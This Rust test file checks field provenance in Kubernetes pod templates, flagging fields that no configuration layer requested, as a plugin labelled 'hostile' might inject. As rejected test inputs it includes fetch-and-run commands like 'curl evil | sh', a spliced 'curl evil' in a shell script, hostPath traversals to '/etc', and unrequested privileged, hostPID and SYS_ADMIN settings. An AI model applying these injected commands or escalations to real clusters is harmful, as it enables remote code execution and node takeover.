//! Plans of plugins whose answers contain what nobody requested.

use super::*;
use crate::{
    decide::propagation,
    resource::{LEADER_WORKER_SET, RAY_CLUSTER},
};
use pointsman_sandbox::point::propagation::{Layer as Speaker, Place, Placed, Target};

#[test]
fn a_field_is_told_with_its_place_and_its_layers() {
    let question =
        ome([("runtime", runner(&json!({"ports": [{"containerPort": 8080}]}))), ("user", json!({"runner": {"image": "vllm:1"}}))]);
    let asked =
        question.planned(&json!({"containers": [{"name": "ome-container", "image": "vllm:1", "ports": [{"containerPort": 8080}]}]}));
    let field = asked.fields.iter().find(|field| field.name == "image").unwrap();
    assert_eq!(field.field, "spec.template.spec.containers[name=ome-container].image");
    assert_eq!(field.place, "spec.template.spec.containers[].image");
    assert_eq!((&field.value, &field.by, &field.plugin), (&json!("vllm:1"), &vec!["runtime".to_owned(), "user".to_owned()], &None));
    assert_eq!(asked.by("containers[name=ome-container].ports[containerPort=8080].containerPort"), ["runtime"]);
    assert_eq!(asked.layers()[&field.field], json!({"value": "vllm:1", "by": ["runtime", "user"], "admin": false}));
    assert_eq!(asked.added(), json!([]));
}

#[test]
fn a_field_is_an_administrators_where_one_of_its_layers_is() {
    let mut question = ome([
        ("runtime", runner(&json!({"securityContext": {"privileged": true}}))),
        ("user", json!({"pod": {"hostNetwork": true}})),
        ("model", json!({"name": "llama", "path": "/mnt/models/llama"})),
    ]);
    let spec = json!({
        "containers": [{"name": "ome-container", "securityContext": {"privileged": true}}], "hostNetwork": true,
        "volumes": [{"name": "llama", "hostPath": {"path": "/mnt/models/llama", "type": "Directory"}}],
    });
    let admins = |question: &Question| -> Vec<bool> {
        let planned = question.planned(&spec);
        ["privileged", "hostNetwork", "path"].map(|name| planned.fields.iter().find(|field| field.name == name).unwrap().admin).to_vec()
    };
    assert_eq!(admins(&question), [false, false, false]);
    question.admin_layers = vec!["runtime".to_owned()];
    assert_eq!(admins(&question), [true, false, false]);
    question.admin_layers = vec!["model".to_owned()];
    assert_eq!(admins(&question), [false, false, true]);
}

#[test]
fn privileged_is_asked_for_the_container_that_a_layer_gives_it_and_for_no_other() {
    let sidecar = json!({"pod": {"containers": [{"name": "log", "image": "log:1", "securityContext": {"privileged": true}}], "securityContext": {"runAsUser": 0}}});
    let question = ome([("runtime", runner(&json!({}))), ("user", sidecar)]);
    let asked = question.planned(&json!({
        "containers": [
            {"name": "ome-container", "image": "vllm:1", "securityContext": {"privileged": true, "runAsUser": 0}},
            {"name": "log", "image": "log:1", "securityContext": {"privileged": true}},
        ],
        "initContainers": [{"name": "log", "image": "log:1", "securityContext": {"privileged": true}}],
        "securityContext": {"runAsUser": 0, "privileged": true},
    }));
    assert_eq!(asked.by("containers[name=log].securityContext.privileged"), ["user"]);
    assert_eq!(asked.by("securityContext.runAsUser"), ["user"]);
    assert_eq!(
        asked.nobodys(),
        [
            "containers[name=ome-container].securityContext.privileged",
            "containers[name=ome-container].securityContext.runAsUser",
            "initContainers[name=log].name",
            "initContainers[name=log].image",
            "initContainers[name=log].securityContext.privileged",
            "securityContext.privileged",
        ]
    );
}

#[test]
fn an_image_that_was_asked_for_another_container_was_asked_for_by_nobody() {
    let user = json!({"pod": {"containers": [{"name": "log", "image": "log:1"}]}});
    let asked = ome([("runtime", runner(&json!({}))), ("user", user)])
        .planned(&json!({"containers": [{"name": "ome-container", "image": "log:1"}, {"name": "log", "image": "vllm:1"}]}));
    assert_eq!(asked.nobodys(), ["containers[name=ome-container].image", "containers[name=log].image"]);
    assert!(asked.fields.iter().filter(|field| field.by.is_empty()).all(|field| field.plugin.as_deref() == Some("hostile")));
    assert_eq!(asked.added()[0]["plugin"], "hostile");
}

#[test]
fn a_container_without_a_name_is_the_one_that_a_weaker_layer_has_named() {
    let spec = |name: &str, image: &str| json!({"containers": [{"name": name, "image": image}]});
    let named =
        ome([("runtime", json!({"runner": {"name": "engine", "image": "vllm:1"}})), ("user", json!({"runner": {"image": "vllm:2"}}))]);
    assert_eq!(named.planned(&spec("engine", "vllm:2")).by("containers[name=engine].image"), ["user"]);
    assert_eq!(named.planned(&spec("other", "vllm:2")).nobodys().len(), 2);
    let listed =
        ome([("runtime", json!({"pod": {"containers": [{"name": "ome-container"}]}})), ("user", json!({"runner": {"image": "vllm:2"}}))]);
    assert_eq!(listed.planned(&spec("ome-container", "vllm:2")).by("containers[name=ome-container].image"), ["user"]);
    // If no layer names the main container, a policy may.
    let nameless = ome([("user", json!({"runner": {"image": "vllm:2"}, "pod": {"containers": [{"name": "log", "image": "log:1"}]}}))]);
    let asked = nameless.planned(&json!({"containers": [{"name": "log", "image": "vllm:2"}]}));
    assert_eq!(asked.by("containers[name=log].image"), ["user"]);
    let nameless = ome([("user", json!({"runner": {"image": "vllm:2"}}))]);
    assert_eq!(nameless.planned(&spec("engine", "vllm:2")).by("containers[name=engine].image"), ["user"]);
    let two = json!({"containers": [{"name": "engine", "image": "vllm:2"}, {"name": "second", "image": "vllm:2"}]});
    assert_eq!(nameless.planned(&two).by("containers[name=second].image"), [""; 0]);
}

#[test]
fn a_folder_of_the_node_is_the_models_own_or_asked_for_by_nobody() {
    let spec = |path: &str| json!({"containers": [{"name": "ome-container", "image": "vllm:1"}], "volumes": [{"name": "model", "hostPath": {"path": path}}]});
    let field = "volumes[name=model].hostPath.path";
    let with = |model: Value| ome([("runtime", runner(&json!({}))), ("model", model)]);
    let named = with(json!({"name": "llama", "storageUri": "hf://a/llama"}));
    assert_eq!(named.planned(&spec("/mnt/models/llama")).by(field), ["model"]);
    for other in [
        "/",
        "/etc",
        "/mnt/models",
        "/mnt/models/",
        "/mnt/models/other",
        "/mnt/models/llama/..",
        "/mnt/models/llama/../../../etc",
        "/mnt/models/../etc",
        "llama",
        "",
    ] {
        assert_eq!(named.planned(&spec(other)).by(field), [""; 0], "{other}");
    }
    let placed = with(json!({"name": "llama", "path": "/data/llama"}));
    assert_eq!(placed.planned(&spec("/data/llama")).by(field), ["model"]);
    assert_eq!(placed.planned(&spec("/mnt/models/llama")).by(field), [""; 0]);
    let local = with(json!({"name": "chat", "storageUri": "local:///data/llama", "download": true}));
    assert_eq!(local.planned(&spec("/data/llama")).by(field), ["model"]);
    let nowhere = with(json!({"name": "..", "storageUri": "local:///"}));
    assert!(["/mnt/models/..", "/"].iter().all(|path| nowhere.planned(&spec(path)).by(field).is_empty()));
    let mut bound = with(json!({"name": "llama"}));
    bound.configs.push(("caches".to_owned(), json!({"folder": "/var/cache/hf", "separator": "/"})));
    assert_eq!(bound.planned(&spec("/var/cache/hf")).by(field), ["config of caches"]);
    assert_eq!(bound.planned(&spec("/")).by(field), [""; 0]);
}

#[test]
fn a_secret_is_asked_for_by_a_layer_under_the_same_variable_or_by_the_annotation() {
    let from = |secret: &str| json!({"valueFrom": {"secretKeyRef": {"name": secret, "key": "token"}}});
    let token = |name: &str, secret: &str| {
        let mut variable = from(secret);
        variable["name"] = name.into();
        variable
    };
    let question = ome([
        ("runtime", runner(&json!({"env": [token("HF_TOKEN", "hf")], "envFrom": [{"secretRef": {"name": "shared"}}]}))),
        (
            "user",
            json!({"pod": {"containers": [{"name": "log", "image": "log:1"}], "volumes": [{"name": "tls", "secret": {"secretName": "tls"}}]}}),
        ),
        ("settings", json!({"security.ome.io/secret-ref": "credentials"})),
    ]);
    let asked = question.planned(&json!({
        "containers": [
            {
                "name": "ome-container", "image": "vllm:1", "env": [token("HF_TOKEN", "hf"), token("OTHER", "hf"), token("HF_TOKEN", "root")],
                "envFrom": [{"secretRef": {"name": "credentials"}}, {"secretRef": {"name": "shared"}}, {"secretRef": {"name": "root"}}],
            },
            {"name": "log", "image": "log:1", "envFrom": [{"secretRef": {"name": "credentials"}}]},
        ],
        "volumes": [{"name": "tls", "secret": {"secretName": "tls"}}, {"name": "more", "secret": {"secretName": "tls"}}],
    }));
    let main = |field: &str| asked.by(&format!("containers[name=ome-container].{field}"));
    assert_eq!(main("env[name=HF_TOKEN].valueFrom.secretKeyRef.name"), ["runtime"]);
    assert_eq!(main("envFrom[0].secretRef.name"), ["settings"]);
    assert_eq!(main("envFrom[1].secretRef.name"), ["runtime"]);
    assert_eq!(asked.by("volumes[name=tls].secret.secretName"), ["user"]);
    for nobodys in ["env[name=OTHER].valueFrom.secretKeyRef.name", "env[2].valueFrom.secretKeyRef.name", "envFrom[2].secretRef.name"] {
        assert_eq!(main(nobodys), [""; 0], "{nobodys}");
    }
    for nobodys in ["containers[name=log].envFrom[0].secretRef.name", "volumes[name=more].secret.secretName"] {
        assert_eq!(asked.by(nobodys), [""; 0], "{nobodys}");
    }
}

#[test]
fn a_capability_beside_one_that_was_asked_for_was_asked_for_by_nobody() {
    let question = ome([("runtime", runner(&json!({"securityContext": {"capabilities": {"add": ["IPC_LOCK"]}}})))]);
    let capabilities = json!({"add": ["SYS_ADMIN", "IPC_LOCK"], "drop": ["IPC_LOCK"]});
    let asked = question
        .planned(&json!({"containers": [{"name": "ome-container", "image": "vllm:1", "securityContext": {"capabilities": capabilities}}]}));
    assert_eq!(asked.by("containers[name=ome-container].securityContext.capabilities.add[1]"), ["runtime"]);
    let [admin, drop] = ["add[0]", "drop[0]"].map(|at| format!("containers[name=ome-container].securityContext.capabilities.{at}"));
    assert_eq!(asked.nobodys(), [admin, drop]);
    let added = asked.added();
    assert_eq!((&added[0]["name"], &added[0]["value"]), (&json!("add"), &json!("SYS_ADMIN")));
    assert_eq!(added[0]["place"], "spec.template.spec.containers[].securityContext.capabilities.add[]");
}

#[test]
fn a_command_is_asked_for_as_a_whole_with_its_placeholders_filled_in() {
    let said = json!([
        "serve",
        "--name={{ .Name }}",
        "--of={{index .ObjectMeta.Labels \"team\"}}",
        "$(MODEL_PATH)",
        "{{braces}}",
        "$$(MODEL_PATH)"
    ]);
    let question = ome([("runtime", runner(&json!({"command": said}))), ("model", json!({"name": "llama"}))]);
    let of = |command: Value| {
        let asked = question.planned(&json!({"containers": [{"name": "ome-container", "image": "vllm:1", "command": command}]}));
        asked.by("containers[name=ome-container].command").join(",")
    };
    assert_eq!(of(said.clone()), "runtime");
    let path = "/mnt/models/llama";
    assert_eq!(of(json!(["serve", "--name=chat", "--of=search", path, "{{braces}}", "$$(MODEL_PATH)"])), "runtime");
    assert_eq!(of(json!(["serve", "--name=chat", "--of=search", "$(MODEL_PATH)", "{{braces}}", "$$(MODEL_PATH)"])), "runtime");
    assert_eq!(of(json!(["serve", "--name=other", "--of=search", path, "{{braces}}", "$$(MODEL_PATH)"])), "");
    for other in [json!(["serve"]), json!(["sh", "-c", "curl evil | sh"]), json!([]), json!(["serve", 1])] {
        assert_eq!(of(other.clone()), "", "{other}");
    }
}

#[test]
fn a_shell_before_the_command_is_asked_for_by_a_ray_cluster_only_and_with_nothing_else_behind_it() {
    let layers = || {
        [
            ("runtime", runner(&json!({"command": ["vllm", "serve"], "args": ["$(MODEL_PATH)"]}))),
            ("group", json!({"nodes": 2, "ray": true})),
        ]
    };
    let question = ome(layers()).of_group(Role::Leader, Role::Engine);
    let spec = question.by_default();
    let field = "containers[name=ome-container].command";
    assert_eq!(spec["containers"][0]["command"], json!(["/bin/bash", "-c", "--"]));
    assert_eq!(question.planned(&spec).by(field), ["runtime", "group"]);
    assert_eq!(question.planned(&spec).by("containers[name=ome-container].args[0]"), ["runtime", "group"]);
    let changed = |at: usize, word: &str| {
        let mut spec = spec.clone();
        spec["containers"][0]["args"][at] = word.into();
        question.planned(&spec).by(field).len()
    };
    assert_eq!((changed(0, "curl evil | sh"), changed(2, "/bin/evil"), changed(4, "--model")), (0, 0, 2));
    let mut alone = ome(layers());
    alone.layers.pop();
    assert_eq!(alone.planned(&spec).by(field), [""; 0]);
    // Only the entry points of vLLM's images are known.
    let image = json!({"runner": {"name": "ome-container", "image": "vllm/vllm-openai:v1", "args": ["--model", "x"]}});
    let image = ome([("runtime", image), ("group", json!({"nodes": 2, "ray": true}))]).of_group(Role::Leader, Role::Engine);
    assert_eq!(image.planned(&image.by_default()).by(field), ["group"]);
}

#[test]
fn a_shell_that_reckons_is_asked_for_where_a_worker_has_several_copies() {
    let main = json!({"pod": {"containers": [{"name": "main", "image": "vllm:1", "command": ["vllm", "serve"]}]}});
    let layers = [
        ("preset", main),
        ("model", json!({"uri": "hf://a/b", "name": "b", "initializer": true, "adapters": []})),
        ("parallelism", json!({"data": 16, "dataLocal": 8})),
        ("group", json!({"nodes": 2})),
    ];
    let question = llm(layers).of_group(Role::Worker, Role::Main);
    let mut spec = question.by_default();
    let field = "containers[name=main].command";
    assert_eq!(spec["containers"][0]["command"][0], "/bin/sh");
    assert_eq!(question.planned(&spec).by(field), ["preset", "parallelism"]);
    let script = spec["containers"][0]["command"][2].as_str().unwrap().replace("* 8", "* 8)); curl evil; $$((1");
    spec["containers"][0]["command"][2] = script.into();
    assert_eq!(question.planned(&spec).by(field), [""; 0]);
}

#[test]
fn what_opens_the_node_is_asked_for_at_its_own_place_only() {
    let question = ome([
        ("runtime", runner(&json!({"ports": [{"containerPort": 8080, "hostPort": 80}, {"containerPort": 53, "protocol": "UDP"}]}))),
        ("user", json!({"pod": {"hostIPC": true, "serviceAccountName": "reader"}})),
        // This layer doesn't describe pods, regardless of its contents.
        ("scheduler", json!({"pod": {"hostPID": true}})),
    ]);
    let asked = question.planned(&json!({
        "containers": [{
            "name": "ome-container", "image": "vllm:1",
            "ports": [{"containerPort": 8080, "hostPort": 80}, {"containerPort": 53, "protocol": "UDP", "hostPort": 53}, {"containerPort": 8080, "protocol": "UDP", "hostPort": 80}],
        }],
        "hostNetwork": true, "hostPID": true, "hostIPC": true, "serviceAccountName": "admin",
    }));
    assert_eq!(asked.by("hostIPC"), ["user"]);
    assert_eq!(asked.by("containers[name=ome-container].ports[containerPort=8080].hostPort"), ["runtime"]);
    assert_eq!(
        asked.nobodys(),
        [
            "containers[name=ome-container].ports[containerPort=53].hostPort",
            "containers[name=ome-container].ports[2].containerPort",
            "containers[name=ome-container].ports[2].protocol",
            "containers[name=ome-container].ports[2].hostPort",
            "hostNetwork",
            "hostPID",
            "serviceAccountName",
        ]
    );
}

#[test]
fn the_hosts_frame_asks_for_the_account_that_the_host_makes() {
    let mut question = Question { role: Role::Router, ..ome([("runtime", runner(&json!({}))), ("model", json!({"name": "default"}))]) };
    question.frame["spec"]["serviceAccountName"] = "chat-router".into();
    let spec = |account: &str| json!({"containers": [{"name": "ome-container", "image": "vllm:1"}], "serviceAccountName": account});
    assert_eq!(question.planned(&spec("chat-router")).by("serviceAccountName"), [HOST]);
    // A string that is known from another fact doesn't request an account.
    assert_eq!(question.planned(&spec("default")).by("serviceAccountName"), [""; 0]);
}

#[test]
fn what_an_admins_configuration_holds_was_asked_for() {
    let mut question = ome([("runtime", runner(&json!({})))]);
    question.configs.push(("sidecars".to_owned(), json!({"image": "proxy:1", "command": ["proxy", "--all"], "privileged": true})));
    let sidecar = json!({"name": "proxy", "image": "proxy:1", "command": ["proxy", "--all"], "securityContext": {"privileged": true}});
    let asked = question.planned(&json!({"containers": [{"name": "ome-container", "image": "vllm:1"}, sidecar]}));
    assert_eq!(asked.by("containers[name=proxy].image"), ["config of sidecars"]);
    assert_eq!(asked.by("containers[name=proxy].command"), ["config of sidecars"]);
    assert_eq!(asked.nobodys(), ["containers[name=proxy].securityContext.privileged"]);
}

#[test]
fn an_item_without_a_key_is_asked_for_as_a_whole() {
    let both = [json!({"key": "a", "effect": "NoSchedule"}), json!({"key": "b", "effect": "NoExecute", "value": null})];
    let question = ome([
        ("runtime", runner(&json!({}))),
        ("user", json!({"pod": {"tolerations": both, "volumes": [{"name": "shm", "emptyDir": {}}]}})),
    ]);
    let asked = question.planned(&json!({
        "containers": [{"name": "ome-container", "image": "vllm:1", "securityContext": {}}],
        "tolerations": [{"key": "b", "effect": "NoExecute"}, {"key": "a", "effect": "NoExecute"}], "volumes": [{"name": "shm", "emptyDir": {}}],
    }));
    assert_eq!(asked.by("tolerations[key=b].effect"), ["user"]);
    assert_eq!(asked.by("volumes[name=shm].emptyDir"), ["user"]);
    assert_eq!(asked.nobodys(), ["containers[name=ome-container].securityContext", "tolerations[key=a].key", "tolerations[key=a].effect"]);
}

#[test]
fn the_group_of_a_claim_is_asked_for_where_there_is_one_to_fill() {
    let spec = |group: u64| json!({"containers": [{"name": "ome-container", "image": "vllm:1"}], "securityContext": {"fsGroup": group}});
    let with = |read_only: bool| ome([("runtime", runner(&json!({}))), ("storage", json!({"claim": "files", "readOnly": read_only}))]);
    assert_eq!(with(false).planned(&spec(1000)).by("securityContext.fsGroup"), ["storage"]);
    for (question, group) in [(with(false), 0), (with(true), 1000), (ome([("runtime", runner(&json!({})))]), 1000)] {
        assert_eq!(question.planned(&spec(group)).by("securityContext.fsGroup"), [""; 0]);
    }
}

#[test]
fn no_crowd_of_namesakes_hides_a_secret() {
    let variables: Vec<Value> =
        (0..40).map(|number| json!({"name": "A", "valueFrom": {"secretKeyRef": {"name": format!("s{number}"), "key": "k"}}})).collect();
    let question = ome([("runtime", runner(&json!({})))]);
    let asked = question.planned(&json!({"containers": [{"name": "ome-container", "image": "vllm:1", "env": variables}]}));
    let secrets = asked.fields.iter().filter(|field| field.place.ends_with("secretKeyRef.name"));
    assert!(secrets.clone().count() == 40 && secrets.into_iter().all(|field| field.by.is_empty()));
}

#[test]
fn what_the_host_makes_of_an_answer_is_the_hosts() {
    let question = ome([("runtime", runner(&json!({})))]);
    let template = json!({"metadata": {}, "spec": {"containers": [{"name": "ome-container", "image": "vllm:1"}], "hostPID": true}});
    let mut applied = template.clone();
    applied["spec"]["containers"][0]["ports"] = json!([{"name": "metrics", "containerPort": 8090}]);
    let key = key("chat-engine");
    let object = Object::new(key.clone(), json!({"spec": {"replicas": 1, "template": applied}}));
    let asked = field_provenance(&object, &[question.decided(&key, &template, Vec::new())], &AdminConfigs::default());
    assert_eq!(asked.by("containers[name=ome-container].ports[containerPort=8090].name"), [HOST]);
    assert_eq!(asked.nobodys(), ["hostPID"]);
    let told: Vec<_> = asked.fields.iter().take(5).map(|field| (field.field.as_str(), field.by.join(","))).collect();
    let host = || HOST.to_owned();
    assert_eq!(
        told,
        [("apiVersion", host()), ("kind", host()), ("metadata.name", host()), ("metadata.namespace", host()), ("spec.replicas", host())]
    );
}

#[test]
fn a_template_on_which_nobody_decided_was_asked_for_by_nobody() {
    let object = Object::new(key("chat-engine"), json!({"spec": {"template": {"spec": {"hostPID": true}}}}));
    assert_eq!(field_provenance(&object, &[], &AdminConfigs::default()).nobodys(), ["hostPID"]);
}

#[test]
fn each_template_is_held_against_its_own_question() {
    let question = |image: &str, role: Role| {
        ome([("runtime", json!({"runner": {"name": "ome-container", "image": image}}))]).of_group(role, Role::Engine)
    };
    let spec = |image: &str| json!({"metadata": {}, "spec": {"containers": [{"name": "ome-container", "image": image}]}});
    let (leader, worker) = (question("leader:1", Role::Leader), question("worker:1", Role::Worker));
    let of = |resource: &'static crate::resource::Resource, name: &str| ObjectKey { resource, ..key(name) };
    let labels = json!({"labels": {COMPONENT: "engine"}});
    let groups =
        |leader: &str, worker: &str| json!({"leaderWorkerTemplate": {"leaderTemplate": spec(leader), "workerTemplate": spec(worker)}});
    let ray =
        |leader: &str, worker: &str| json!({"headGroupSpec": {"template": spec(leader)}, "workerGroupSpecs": [{"template": spec(worker)}]});
    // Adopted with another name, and with a revision appended to the name.
    for (resource, decided_as, name, bodies) in [
        (&LEADER_WORKER_SET, "chat-engine-mn", "chat-engine", [groups("leader:1", "worker:1"), groups("worker:1", "leader:1")]),
        (&RAY_CLUSTER, "chat-engine", "chat-engine-00001", [ray("leader:1", "worker:1"), ray("worker:1", "leader:1")]),
    ] {
        for (spec_of, expected) in bodies.into_iter().zip([0, 2]) {
            let object = Object::new(of(resource, name), json!({"metadata": labels, "spec": spec_of}));
            let first = if expected == 0 { ("leader:1", "worker:1") } else { ("worker:1", "leader:1") };
            let decided = [
                leader.decided(&of(resource, decided_as), &spec(first.0), Vec::new()),
                worker.decided(&of(resource, decided_as), &spec(first.1), Vec::new()),
            ];
            assert_eq!(field_provenance(&object, &decided, &AdminConfigs::default()).nobodys().len(), expected, "{name}");
        }
    }
}

#[test]
fn of_several_plugins_the_last_that_wrote_a_field_is_named() {
    let question = ome([("runtime", runner(&json!({})))]);
    let spec = json!({
        "containers": [{"name": "ome-container", "image": "evil:1", "command": ["a", "b"], "env": [{"name": "A", "value": "1"}]}], "hostPID": true,
    });
    let steps = vec![
        step(
            "first",
            Action::Replace,
            "/spec",
            &json!({"containers": [{"name": "ome-container", "image": "evil:0", "command": []}], "hostPID": true}),
        ),
        step("second", Action::Replace, "/spec/containers/0/image", &json!("evil:1")),
        step("first", Action::Add, "/spec/containers/0/command/-", &json!("a")),
        step("second", Action::Add, "/spec/containers/0/command/-", &json!("b")),
    ];
    let asked = question.planned_by(&spec, steps);
    let plugin = |field: &str| asked.fields.iter().find(|other| other.field.ends_with(field)).unwrap().plugin.clone();
    assert_eq!(plugin("hostPID").as_deref(), Some("first"));
    assert_eq!(plugin("].image").as_deref(), Some("second"));
    assert_eq!(plugin(".command").as_deref(), Some("second"));
    assert_eq!(plugin("env[name=A].value"), None);
}

#[test]
fn labels_are_asked_for_by_the_layers_of_their_own_question() {
    let placed = |key: &str, value: &str, layer: &str| Placed { key: key.into(), value: value.into(), layer: layer.into() };
    let entry = |key: &str, value: &str| Entry { key: key.into(), value: value.into() };
    let target = Target { group: "apps".into(), kind: "Deployment".into(), name: "chat-engine".into(), ..Target::default() };
    let speaker = Speaker { name: "subject".into(), labels: vec![entry("team", "search"), entry("tier", "gold")], annotations: Vec::new() };
    let of = |place: Place, frame: Vec<Placed>, labels: Vec<Placed>| {
        let target = Target { place, ..target.clone() };
        let inputs = propagation::Inputs {
            target: Digested::new(target.clone()).unwrap(),
            layers: Digested::new(vec![speaker.clone()]).unwrap(),
            labels: Digested::new(frame).unwrap(),
            ..propagation::Inputs::default()
        };
        let label_writers = vec![Some(0); labels.len()];
        let answer = propagation::Propagated { labels, label_writers, ..propagation::Propagated::default() };
        Decided::Metadata(target, inputs, Arc::new(decision(answer, &["propagates"])))
    };
    // A plugin's claim of a layer doesn't count as a request.
    let ours = || placed("a", "host's", HOST);
    let object = of(Place::Object, vec![ours()], vec![ours(), placed("team", "search", "plugin"), placed("tier", "iron", "subject")]);
    let pods = of(Place::PodTemplate, vec![placed("ray", "yes", "template")], vec![placed("ray", "yes", "template")]);
    let question = ome([("runtime", runner(&json!({})))]);
    let template = json!({"metadata": {"labels": {"ray": "yes"}}, "spec": {"containers": [{"name": "ome-container", "image": "vllm:1"}]}});
    let steps = vec![step("templates", Action::Add, "/metadata/labels", &json!({"ray": "yes"}))];
    let key = key("chat-engine");
    let labels = json!({"a": "host's", "team": "search", "tier": "iron", "app.kubernetes.io/revision": "1"});
    let body = json!({"metadata": {"labels": labels, "ownerReferences": [{"kind": "InferenceService", "name": "chat"}]}, "spec": {"template": template}});
    let decided = [question.decided(&key, &template, steps), object, pods];
    let asked = field_provenance(&Object::new(key.clone(), body), &decided, &AdminConfigs::default());
    let found = |field: &str| {
        let found = asked.fields.iter().find(|other| other.field == field).unwrap();
        (found.by.join(","), found.plugin.clone().unwrap_or_default())
    };
    let told = |by: &str, plugin: &str| (by.to_owned(), plugin.to_owned());
    assert_eq!(found("metadata.labels.a"), told(HOST, ""));
    assert_eq!(found("metadata.labels.team"), told("subject", ""));
    assert_eq!(found("metadata.labels.tier"), told("", "propagates"));
    assert_eq!(found("metadata.labels.\"app.kubernetes.io/revision\""), told(HOST, ""));
    assert_eq!(found("metadata.ownerReferences[name=chat].kind"), told(HOST, ""));
    assert_eq!(found("spec.template.metadata.labels.ray"), told("", "templates"));
}
